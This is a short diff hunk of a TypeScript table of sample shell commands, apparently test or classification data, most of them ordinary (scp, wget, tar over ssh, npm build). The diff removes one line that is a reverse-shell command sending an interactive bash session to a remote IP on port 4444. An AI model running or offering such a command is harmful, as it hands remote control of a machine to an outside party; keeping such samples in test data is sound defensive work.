@@ -410,7 +410,6 @@ export const FURTHER_CLIENTS: FieldTable = {
     'while read h; do scp app.conf "$h":/etc/app/; done < hosts.txt',
     "wget -r -np -nH https://example.org/pub/",
     "tar czf - /srv/data | ssh backup@host.example.org 'cat > data.tgz'",
-    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
     "npm ci && npm run build && npm test",
     "codecov upload-process -t abc",
     "adguardvpn-cli connect -l Berlin",
